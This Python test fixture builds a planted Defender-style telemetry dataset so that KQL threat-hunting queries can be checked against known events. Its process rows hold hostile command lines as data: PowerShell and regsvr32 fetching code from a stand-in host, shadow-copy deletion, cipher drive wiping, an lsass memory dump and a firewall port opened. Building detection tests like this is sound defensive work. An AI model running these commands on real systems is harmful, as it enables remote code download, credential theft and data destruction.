"""The planted world the real-world hunting queries of `test_kql_real_queries` run over.

Six devices, a handful of files and a few dozen events, each placed so that one published query
finds it (or, for the near misses, does not). Every time is relative to `NOW`; the dataset's clock
is frozen there, so `ago()` and the hunting endpoints' 30-day lookback give fixed answers. A few
rows sit at the fixed historical pivot times some published queries carry (`PIVOT_2018`,
`PIVOT_2021`); the hunting endpoints' lookback hides those, so those queries run on `run_query`.
"""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Mapping
from datetime import UTC, datetime, timedelta

from enrich.sandbox.data import TICKS_PER_SECOND, Dataset, Device, FileInfo, format_ticks
from enrich.sandbox.tables.fill import initiating_columns, user_sid

NOW = datetime(2026, 12, 1, 12, 0, tzinfo=UTC)
PIVOT_2018 = datetime(
    2018, 7, 15, 19, 51, tzinfo=UTC
)  # "Machine info from IP address", "Network info of machine"
PIVOT_2021 = datetime(2021, 1, 2, 20, 57, 2, tzinfo=UTC)  # "Alert Events from Internal IP Address"

# the alert id "Events surrounding alert" pivots on, and when its alert was raised
SURROUNDED_ALERT = "636641078490537577_-1905871543"
SURROUNDED_AT = NOW - timedelta(days=3)


def ticks(when: datetime) -> int:
    return int(when.timestamp()) * TICKS_PER_SECOND + when.microsecond * 10


def iso(when: datetime) -> str:
    """A datetime as result rows carry it (7-digit fraction, Z)."""
    return format_ticks(ticks(when), trim=False)


def ago(**delta: float) -> datetime:
    return NOW - timedelta(**delta)


def _device(key: str, name: str, local_ip: str, external_ip: str, user: str, device_id: str = "") -> Device:
    first = ticks(NOW - timedelta(days=200))
    return Device(
        id=device_id or hashlib.sha1(key.encode()).hexdigest(),
        name=name,
        local_ip=local_ip,
        external_ip=external_ip,
        os_platform="Windows11",
        os_build=22631,
        version="23H2",
        aad_device_id=f"00000000-0000-4000-8000-{hashlib.md5(key.encode()).hexdigest()[:12]}",
        first_seen=first,
        last_seen=first,
        user=user,
    )


ALICE = _device("alice", "ws-alice.corp.contoso.com", "10.1.0.11", "203.0.113.11", "alice")
BOB = _device("bob", "ws-bob.corp.contoso.com", "10.1.0.12", "192.168.1.5", "bob")  # PublicIP of query #4
DB = _device("db", "srv-db01.corp.contoso.com", "10.1.0.20", "203.0.113.20", "svc_sql")
EVE = _device(  # the DeviceId and local IP the "Network info of machine" / "Machine info" queries carry
    "eve",
    "laptop-eve.branch.contoso.com",
    "192.168.1.5",
    "198.51.100.7",
    "eve",
    "c0bfefec0bfefec0bfefec0bfefec0bfefecafe",
)
KIOSK = _device("kiosk", "kiosk-07.corp.contoso.com", "172.16.40.8", "203.0.113.40", "kiosk")
USB = _device("usb", "user-desktop.domain.com", "10.1.0.30", "203.0.113.30", "frank")  # best-practices page
DEVICES = (ALICE, BOB, DB, EVE, KIOSK, USB)
# the DeviceId "Events surrounding alert" pivots on, with network logons in 2018 (no heartbeats)
PIVOT_DEVICE = _device(
    "pivot",
    "ws-old.corp.contoso.com",
    "10.1.0.40",
    "203.0.113.44",
    "carol",
    "474908f457a1dc4c1fab568f808d5f77bf3bb951",
)
PIVOT_2018_ALERT = datetime(
    2018, 6, 9, 2, 23, 26, 683291, tzinfo=UTC
)  # datetime(2018-06-09T02:23:26.6832917Z)


def _file(
    name: str, folder: str, prevalence: int = 100_000, sha1: str = "", signer: str | None = None
) -> FileInfo:
    seed = name.encode()
    return FileInfo(
        sha1=sha1 or hashlib.sha1(seed).hexdigest(),
        sha256=hashlib.sha256(seed).hexdigest(),
        md5=hashlib.md5(seed).hexdigest(),
        name=name,
        folder=folder,
        size=1000 + len(name) * 37,
        global_prevalence=prevalence,
        global_first=ticks(NOW - timedelta(days=400)),
        global_last=ticks(NOW - timedelta(hours=1)),
        signer=signer,
        issuer="Microsoft Windows Production PCA 2011" if signer else None,
        valid_cert=True if signer else None,
        publisher="Microsoft Corporation" if signer else None,
    )


SYS32 = r"C:\Windows\System32"
# the two SHA-1s of mde-api.md 5.4's bulk file query
INVOICE = _file("invoice.exe", r"C:\Users\alice\Downloads", 3, "4388963aaa83afe2042a46a3c017ad50bdcdafb3")
UPDATER = _file("updater.exe", r"C:\ProgramData\upd", 12, "0991a395da64e1c5fbe8732ed11e6be064081d9f")
PAYLOAD = _file("payload.dll", r"C:\ProgramData\upd", 7)
REPORT = _file("report.docx", r"C:\Users\bob\Documents", 5000)
PROC = {
    name: _file(name, folder, signer="Microsoft Windows")
    for name, folder in (
        ("explorer.exe", r"C:\Windows"),
        ("cmd.exe", SYS32),
        ("powershell.exe", SYS32 + r"\WindowsPowerShell\v1.0"),
        ("net.exe", SYS32),
        ("taskkill.exe", SYS32),
        ("wmic.exe", SYS32 + r"\wbem"),
        ("schtasks.exe", SYS32),
        ("rundll32.exe", SYS32),
        ("regsvr32.exe", SYS32),
        ("netsh.exe", SYS32),
        ("cipher.exe", SYS32),
        ("bcdedit.exe", SYS32),
        ("vssadmin.exe", SYS32),
        ("wscript.exe", SYS32),
        ("svchost.exe", SYS32),
        ("mstsc.exe", SYS32),
        ("winlogon.exe", SYS32),
        ("mscoree.dll", SYS32),
        ("WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16"),
        ("OUTLOOK.EXE", r"C:\Program Files\Microsoft Office\root\Office16"),
        ("PsExec.exe", r"C:\Tools"),
        ("procdump64.exe", r"C:\Tools"),
        ("scanner.exe", r"C:\Users\alice\AppData\Local\Temp"),
    )
}
# the SHA-1 of Microsoft's "File footprint" query: a tool on EVE, seen as file, process and parent
TOOL = _file("tool.exe", r"C:\Users\eve\AppData\Local\Temp", 2, "e152f7ce2d3a4349ac583580c2caf8f72fac16ba")
PROC[TOOL.name] = TOOL
ENCODED = base64.b64encode("whoami /all".encode("utf-16-le")).decode()  # what -enc carries

DOWNLOAD_COMMAND = (
    "powershell.exe -nop -c \"(New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')\""
)
TASKKILL_BIN = NOW - timedelta(hours=6)  # a 2-minute bin start (NOW is on the hour)
NET_STOP_BIN = NOW - timedelta(hours=2)
CIPHER_MINUTE = NOW - timedelta(hours=3)
PSEXEC_DB = r"PsExec.exe \\srv-db01 c:\windows\system32\cmd.exe"
PSEXEC_ALICE = r"PsExec.exe \\ws-bob c:\windows\system32\cmd.exe /c whoami"
DOPPLEPAYMER_COMMAND = "-q -s {{B5E5A6C1-33F2-4A4C-8E8F-1B2E3C4D5E6F}} -p 4242"

# Fixed process identities where a query groups or joins on them
SCANNER_PID, SCANNER_CREATED = 4242, NOW - timedelta(hours=3)


class World:
    """Builds the planted `Dataset` (`build()`), with helpers that write one event each."""

    def __init__(self) -> None:
        self.ds = Dataset(ticks(NOW))
        for device in (*DEVICES, PIVOT_DEVICE):
            self.ds.add_device(device)
        for info in (INVOICE, UPDATER, PAYLOAD, REPORT, *PROC.values()):
            self.ds.add_file(info)

    def actor(
        self,
        device: Device,
        process: str,
        when: datetime,
        command_line: str = "",
        overrides: Mapping[str, object] | None = None,
    ) -> dict:
        """The InitiatingProcess* columns of `process` on `device`, with `overrides`."""
        columns = initiating_columns(PROC[process], device, ticks(when), command_line=command_line)
        columns.update(overrides or {})
        return columns

    def add(
        self, table: str, when: datetime, device: Device | None, values: dict, extra: dict | None = None
    ) -> None:
        base = {"DeviceId": device.id, "DeviceName": device.name} if device else {}
        self.ds.add_row(table, ticks(when), {**base, **values}, extra)

    def process(
        self,
        when: datetime,
        device: Device,
        image: FileInfo,
        command_line: str,
        parent: str = "cmd.exe",
        parent_command_line: str = "",
        **extra: object,
    ) -> None:
        """A ProcessCreated row: `image` started with `command_line` by `parent`."""
        values = {
            "ActionType": "ProcessCreated",
            "FileName": image.name,
            "FolderPath": f"{image.folder}\\{image.name}",
            "SHA1": image.sha1,
            "SHA256": image.sha256,
            "MD5": image.md5,
            "FileSize": image.size,
            "ProcessCommandLine": command_line,
            "ProcessId": 7000 + len(self.ds.tables["DeviceProcessEvents"]),
            "ProcessCreationTime": iso(when),
            "AccountDomain": "contoso",
            "AccountName": device.user,
            "AccountSid": user_sid(device.user),
        }
        self.add(
            "DeviceProcessEvents",
            when,
            device,
            values,
            self.actor(device, parent, when, parent_command_line, extra),
        )

    def connection(
        self,
        when: datetime,
        device: Device,
        process: str,
        action: str,
        remote_ip: str = "",
        remote_port: int | None = None,
        remote_url: str = "",
        remote_ip_type: str = "Public",
        local_port: int | None = 50000,
        local_ip: str = "",
        **extra: object,
    ) -> None:
        values = {
            "ActionType": action,
            "RemoteIP": remote_ip,
            "RemotePort": remote_port,
            "RemoteUrl": remote_url,
            "RemoteIPType": remote_ip_type if remote_ip else "",
            "LocalIP": local_ip or device.local_ip,
            "LocalPort": local_port,
            "LocalIPType": "Loopback" if local_ip == "127.0.0.1" else "Private",
            "Protocol": "Tcp",
        }
        self.add(
            "DeviceNetworkEvents", when, device, values, self.actor(device, process, when, overrides=extra)
        )

    def file_event(
        self, when: datetime, device: Device, info: FileInfo, action: str, process: str | FileInfo
    ) -> None:
        values = {
            "ActionType": action,
            "FileName": info.name,
            "FolderPath": f"{info.folder}\\{info.name}",
            "SHA1": info.sha1,
            "SHA256": info.sha256,
            "MD5": info.md5,
            "FileSize": info.size,
        }
        if isinstance(process, FileInfo):
            actor = initiating_columns(process, device, ticks(when))
        else:
            actor = self.actor(device, process, when)
        self.add("DeviceFileEvents", when, device, values, actor)

    def logon(
        self, when: datetime, device: Device, action: str, logon_type: str, account: str, **values: object
    ) -> None:
        self.add(
            "DeviceLogonEvents",
            when,
            device,
            {
                "ActionType": action,
                "LogonType": logon_type,
                "AccountDomain": "contoso",
                "AccountName": account,
                "AccountSid": user_sid(account),
                **values,
            },
            self.actor(device, "winlogon.exe", when, "winlogon.exe"),
        )

    def alert(self, alert_id: str, title: str, when: datetime, device: Device, evidence: list[dict]) -> None:
        self.ds.add_alert(
            {
                "id": alert_id,
                "title": title,
                "alertCreationTime": iso(when),
                "severity": "High",
                "category": "Malware",
                "machineId": device.id,
                "evidence": evidence,
            },
            [],
        )

    def build(self) -> Dataset:
        plant_bulk_indicators(self)
        plant_file_footprint(self)
        plant_processes(self)
        plant_network(self)
        plant_logons(self)
        plant_device_reports(self)
        plant_registry_and_events(self)
        plant_scans_and_smb(self)
        plant_alerts(self)
        self.ds.finish()
        self.ds.freeze_clock(ticks(NOW))
        return self.ds


def build() -> Dataset:
    """The planted dataset, clock frozen at `NOW`."""
    return World().build()


def plant_bulk_indicators(w: World) -> None:
    """mde-api.md 5.4: two SHA-1s, two IPs, two domains (one as a URL, one as a bare host)."""
    w.file_event(ago(days=3), ALICE, INVOICE, "FileCreated", "explorer.exe")
    w.file_event(ago(hours=20), BOB, INVOICE, "FileCreated", "explorer.exe")
    w.file_event(ago(days=40), DB, INVOICE, "FileCreated", "explorer.exe")  # outside 30 days
    w.file_event(ago(days=2), DB, PAYLOAD, "FileCreated", UPDATER)  # UPDATER as the initiating process
    w.file_event(ago(hours=5), BOB, REPORT, "FileCreated", "WINWORD.EXE")  # a common file (FileProfile)
    w.file_event(ago(hours=6), ALICE, PAYLOAD, "FileModified", "explorer.exe")
    w.connection(
        ago(days=4), ALICE, "svchost.exe", "ConnectionSuccess", "10.209.67.177", 443, remote_ip_type="Private"
    )
    w.connection(
        ago(days=2), BOB, "svchost.exe", "ConnectionSuccess", "10.209.67.177", 443, remote_ip_type="Private"
    )
    w.connection(
        ago(days=1), BOB, "svchost.exe", "ConnectionSuccess", "10.209.67.177", 443, remote_ip_type="Private"
    )
    w.connection(
        ago(days=6), DB, "svchost.exe", "ConnectionSuccess", "2a01:110:68:4:59e4:3916:3b3e:4f96", 443
    )
    w.connection(
        ago(days=5),
        ALICE,
        "powershell.exe",
        "ConnectionSuccess",
        "93.184.215.14",
        443,
        "https://example.com/a?b=c",
    )
    w.connection(
        ago(days=4), BOB, "svchost.exe", "ConnectionSuccess", "52.113.194.132", 443, "client.wns.windows.com"
    )
    w.connection(
        ago(days=3),
        DB,
        "powershell.exe",
        "ConnectionSuccess",
        "93.184.215.15",
        443,
        "https://sub.example.com/x",
    )
    w.connection(
        ago(days=2),
        DB,
        "powershell.exe",
        "ConnectionSuccess",
        "93.184.215.16",
        443,
        "https://notexample.com/",
    )


def plant_file_footprint(w: World) -> None:
    """TOOL on EVE: written (3 days ago), started by cmd (2 days), connecting out (1 day), setting a
    Run key (25 hours), starting itself (20 hours)."""
    w.file_event(ago(days=3), EVE, TOOL, "FileCreated", "explorer.exe")
    w.process(ago(days=2), EVE, TOOL, "tool.exe --install")
    w.connection(ago(days=1), EVE, "tool.exe", "ConnectionSuccess", "198.51.100.23", 8443)
    run_key = r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run"
    w.add(
        "DeviceRegistryEvents",
        ago(hours=25),
        EVE,
        {"ActionType": "RegistryValueSet", "RegistryKey": run_key, "RegistryValueName": "tool"},
        w.actor(EVE, "tool.exe", ago(hours=25)),
    )
    w.process(ago(hours=20), EVE, TOOL, "tool.exe --child", parent="tool.exe")


def plant_processes(w: World) -> None:
    # Learn the query language: PowerShell download, in 7 days (and one 8 days ago, one benign)
    ps = PROC["powershell.exe"]
    w.process(ago(days=2), BOB, ps, DOWNLOAD_COMMAND)
    w.process(ago(days=8), BOB, ps, "powershell.exe -c Invoke-WebRequest http://198.51.100.9/b")
    w.process(ago(days=1), BOB, ps, "powershell.exe Get-Process")
    # best practices: net.exe stopping MpsSvc, quoted (and a net start that must not match)
    w.process(ago(days=2), ALICE, PROC["net.exe"], 'net.exe stop "MpsSvc"')
    w.process(ago(days=2), ALICE, PROC["net.exe"], "net.exe start MpsSvc")
    # ransomware: 11 taskkill commands within one 2-minute bin on DB, 3 on ALICE
    base = TASKKILL_BIN + timedelta(seconds=10)
    for i in range(11):
        w.process(
            base + timedelta(seconds=5 * i), DB, PROC["taskkill.exe"], f"taskkill.exe /f /im proc{i}.exe"
        )
    for i in range(3):
        w.process(
            base + timedelta(seconds=5 * i), ALICE, PROC["taskkill.exe"], f"taskkill.exe /f /im proc{i}.exe"
        )
    # ransomware: 11 services stopped in one 2-minute bin, cipher wiping two drives in one minute,
    # boot recovery off and shadow copies deleted: the consolidated query's signs on DB
    for i in range(11):
        w.process(NET_STOP_BIN + timedelta(seconds=5 * i), DB, PROC["net.exe"], f"net.exe stop svc{i}")
    for drive in "CD":
        w.process(CIPHER_MINUTE + timedelta(seconds=10), DB, PROC["cipher.exe"], f"cipher.exe /w:{drive}:\\")
    w.process(
        ago(hours=4, minutes=30), DB, PROC["bcdedit.exe"], "bcdedit.exe /set {default} recoveryenabled no"
    )
    w.process(ago(hours=4), DB, PROC["vssadmin.exe"], "vssadmin.exe delete shadows /all /quiet")
    # the Dopplepaymer implant's command line
    w.process(ago(days=3), BOB, PROC["rundll32.exe"], DOPPLEPAYMER_COMMAND)
    # ransomware: wmic shadowcopy delete; schtasks disabling System Restore from a bare rundll32
    w.process(
        ago(hours=5), DB, PROC["wmic.exe"], "wmic.exe shadowcopy delete /nointeractive", parent="cmd.exe"
    )
    w.process(
        ago(hours=4),
        DB,
        PROC["schtasks.exe"],
        r'schtasks.exe /Change /TN "\Microsoft\Windows\SystemRestore\SR" /disable',
        parent="rundll32.exe",
        parent_command_line="rundll32.exe",
    )
    w.process(
        ago(hours=4),
        ALICE,
        PROC["schtasks.exe"],
        r'schtasks.exe /Change /TN "\Microsoft\Windows\SystemRestore\SR" /disable',
        parent="rundll32.exe",
        parent_command_line="rundll32.exe shell32.dll,Control_RunDLL",
    )
    # encoded PowerShell (48 hours)
    w.process(ago(hours=20), ALICE, ps, f"powershell.exe -nop -w hidden -enc {ENCODED}")
    # firewall rule added
    w.process(
        ago(days=1),
        BOB,
        PROC["netsh.exe"],
        "netsh advfirewall firewall add rule name=x dir=in action=allow localport=4444",
    )
    # regsvr32 started by Word (a process tree), and one started by explorer
    w.process(
        ago(days=1),
        ALICE,
        PROC["regsvr32.exe"],
        r"regsvr32.exe /s /u /i:http://198.51.100.9/x.sct scrobj.dll",
        parent="WINWORD.EXE",
    )
    w.process(
        ago(days=1),
        BOB,
        PROC["regsvr32.exe"],
        r"regsvr32.exe /s C:\Program Files\app\app.dll",
        parent="explorer.exe",
    )
    # Sysinternals: PsExec known for 10 days; procdump64 new in the last 2 days
    w.process(ago(days=10), DB, PROC["PsExec.exe"], PSEXEC_DB)
    w.process(ago(days=1), ALICE, PROC["PsExec.exe"], PSEXEC_ALICE)
    w.process(ago(hours=30), BOB, PROC["procdump64.exe"], "procdump64.exe -ma lsass.exe out.dmp")
    # DotNetToJScript: wscript loading the .NET runtime (DeviceImageLoadEvents)
    for device, process in ((ALICE, "wscript.exe"), (BOB, "svchost.exe")):
        when = ago(hours=2)
        dll = PROC["mscoree.dll"]
        w.add(
            "DeviceImageLoadEvents",
            when,
            device,
            {
                "ActionType": "ImageLoaded",
                "FileName": dll.name,
                "FolderPath": f"{dll.folder}\\{dll.name}",
                "SHA1": dll.sha1,
                "SHA256": dll.sha256,
                "MD5": dll.md5,
                "FileSize": dll.size,
            },
            w.actor(device, process, when, f"{process} C:\\Users\\Public\\run.js"),
        )


def plant_network(w: World) -> None:
    # SMB scanning: one process (fixed pid and creation time) reaching 12 hosts on 445; another 3
    for i in range(12):
        w.connection(
            ago(hours=2, minutes=i),
            ALICE,
            "scanner.exe",
            "ConnectionSuccess",
            f"10.1.2.{10 + i}",
            445,
            remote_ip_type="Private",
            InitiatingProcessId=SCANNER_PID,
            InitiatingProcessCreationTime=iso(SCANNER_CREATED),
        )
    for i in range(3):
        w.connection(
            ago(hours=3),
            DB,
            "svchost.exe",
            "ConnectionSuccess",
            f"10.1.2.{50 + i}",
            445,
            remote_ip_type="Private",
        )
    # open ports (ListeningConnectionCreated): DB 1433, 445, 135 (+49670 and a loopback 3000); ALICE 445
    for port, local_ip in ((1433, ""), (445, ""), (135, ""), (49670, ""), (3000, "127.0.0.1"), (445, "")):
        w.connection(
            ago(days=3), DB, "svchost.exe", "ListeningConnectionCreated", local_port=port, local_ip=local_ip
        )
    w.connection(ago(days=3), ALICE, "svchost.exe", "ListeningConnectionCreated", local_port=445)
    # RDP: BOB's bob connected 36 hours and 5 hours ago (not new); ALICE's alice 30 hours ago (new)
    for when, device in ((ago(hours=36), BOB), (ago(hours=5), BOB), (ago(hours=30), ALICE)):
        w.connection(
            when, device, "mstsc.exe", "ConnectionSuccess", "10.1.0.20", 3389, remote_ip_type="Private"
        )
    w.connection(
        ago(hours=30),
        DB,
        "mstsc.exe",
        "ConnectionSuccess",
        "10.1.0.11",
        3389,
        remote_ip_type="Private",
        InitiatingProcessFileName="Microsoft.Tri.Sensor.exe",
    )


def plant_logons(w: World) -> None:
    # Events surrounding alert: network logons on ALICE around the alert (one inside the 10 minutes before it)
    t = SURROUNDED_AT
    w.logon(t - timedelta(minutes=5), ALICE, "LogonSuccess", "Network", "svc_backup", RemoteIP="10.1.0.20")
    w.logon(t - timedelta(minutes=20), ALICE, "LogonSuccess", "Network", "svc_backup", RemoteIP="10.1.0.20")
    w.logon(t + timedelta(minutes=1), ALICE, "LogonSuccess", "Network", "svc_backup", RemoteIP="10.1.0.20")
    w.logon(t - timedelta(minutes=3), ALICE, "LogonSuccess", "Interactive", "alice")
    # the original query's fixed pivot: one network logon 4 minutes before it, one 12 minutes before
    for minutes in (4, 12):
        w.logon(
            PIVOT_2018_ALERT - timedelta(minutes=minutes), PIVOT_DEVICE, "LogonSuccess", "Network", "svc_scan"
        )
    # Failed logons: 4 on the DB server from a public address, 2 on BOB from an internal one, and a
    # failed unlock on ALICE that names no remote address
    for device, count, remote_ip, remote_type in (
        (DB, 4, "185.224.3.219", "Public"),
        (BOB, 2, "10.0.0.8", "Private"),
    ):
        for i in range(count):
            w.logon(
                ago(days=1, minutes=i),
                device,
                "LogonFailed",
                "Network",
                "administrator",
                FailureReason="WrongPassword",
                RemoteIP=remote_ip,
                RemoteIPType=remote_type,
            )
    w.logon(ago(hours=9), ALICE, "LogonFailed", "Unlock", "alice", FailureReason="WrongPassword")


def plant_device_reports(w: World) -> None:
    """DeviceInfo/DeviceNetworkInfo heartbeats: recent ones, and at the historical pivot times."""
    for device in DEVICES:
        for hours in (30, 6):
            w.ds.add_heartbeat(ticks(ago(hours=hours)), device)
    w.ds.add_heartbeat(ticks(PIVOT_2018 + timedelta(minutes=4)), EVE)  # 4 minutes after the pivot
    w.ds.add_heartbeat(ticks(PIVOT_2018 - timedelta(minutes=9)), BOB)  # BOB's PublicIP is the pivot IP
    w.ds.add_heartbeat(ticks(PIVOT_2018 + timedelta(hours=2)), EVE)  # outside the window
    w.ds.add_heartbeat(ticks(PIVOT_2021 + timedelta(minutes=3)), KIOSK)


def plant_scans_and_smb(w: World) -> None:
    """Antivirus scans (the latest per device: DB 5 days ago, ALICE 30 hours ago, BOB 2 hours ago)
    and one SMB connection to a public address."""
    for when, device, scan in (
        (ago(days=3), ALICE, "Full"),
        (ago(hours=30), ALICE, "Quick"),
        (ago(days=5), DB, "Full"),
        (ago(days=6), DB, "Quick"),
        (ago(hours=2), BOB, "Quick"),
    ):
        w.add(
            "DeviceEvents",
            when,
            device,
            {"ActionType": "AntivirusScanCompleted", "AdditionalFields": {"ScanTypeIndex": scan}},
            w.actor(device, "svchost.exe", when),
        )
    w.connection(ago(days=1), BOB, "svchost.exe", "ConnectionSuccess", "203.0.113.99", 445)


def plant_registry_and_events(w: World) -> None:
    services = r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services"
    for when, device, key in (
        (ago(days=2), DB, rf"{services}\EvilSvc\Parameters"),
        (ago(days=1), ALICE, rf"{services}\Spooler"),
        (ago(hours=3), BOB, r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run"),
    ):
        w.add(
            "DeviceRegistryEvents",
            when,
            device,
            {"ActionType": "RegistryValueSet", "RegistryKey": key, "RegistryValueName": "ImagePath"},
            w.actor(device, "svchost.exe", when),
        )
    # USB mount on the best-practices page's device
    w.add(
        "DeviceEvents",
        ago(hours=2),
        USB,
        {"ActionType": "UsbDriveMount", "AdditionalFields": {"DriveLetter": "E:", "ProductName": "Kingston"}},
        w.actor(USB, "svchost.exe", ago(hours=2)),
    )
    # a link opened from Outlook through a SafeLink, an alert 90 seconds later (Open email link)
    w.add(
        "DeviceEvents",
        OPENED_AT,
        ALICE,
        {
            "ActionType": "BrowserLaunchedToOpenUrl",
            "RemoteUrl": "https://nam01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example%2Fpay%3Fid%3D7&data=05",
        },
        w.actor(ALICE, "OUTLOOK.EXE", OPENED_AT),
    )
    w.add(
        "DeviceEvents",
        ago(days=2),
        BOB,
        {"ActionType": "BrowserLaunchedToOpenUrl", "RemoteUrl": "https://intranet.contoso.com/"},
        w.actor(BOB, "OUTLOOK.EXE", ago(days=2)),
    )


OPENED_AT = NOW - timedelta(days=2, hours=3)
AV_DAY = (NOW - timedelta(days=1)).replace(hour=2)  # two AV alerts on BOB that day, 3 hours apart


def plant_alerts(w: World) -> None:
    w.alert(SURROUNDED_ALERT, "Suspicious network logon", SURROUNDED_AT, ALICE, [])
    w.alert("da637", "Suspicious file opened from email link", OPENED_AT + timedelta(seconds=90), ALICE, [])
    day = AV_DAY
    w.alert(
        "da701",
        "Defender AV detected 'Emotet' malware",
        day,
        BOB,
        [
            {
                "entityType": "File",
                "sha1": INVOICE.sha1,
                "sha256": INVOICE.sha256,
                "fileName": INVOICE.name,
                "filePath": INVOICE.folder,
            }
        ],
    )
    w.alert("da702", "Defender AV detected 'TrickBot' malware", day + timedelta(hours=3), BOB, [])
    w.alert("da703", "Defender AV detected 'Emotet' malware", day, ALICE, [])
    w.alert("da801", "Suspicious activity on kiosk", ago(days=4), KIOSK, [])
    w.alert(
        "da802", "Malware on kiosk", ago(days=2), KIOSK, [{"entityType": "Ip", "ipAddress": "198.51.100.9"}]
    )
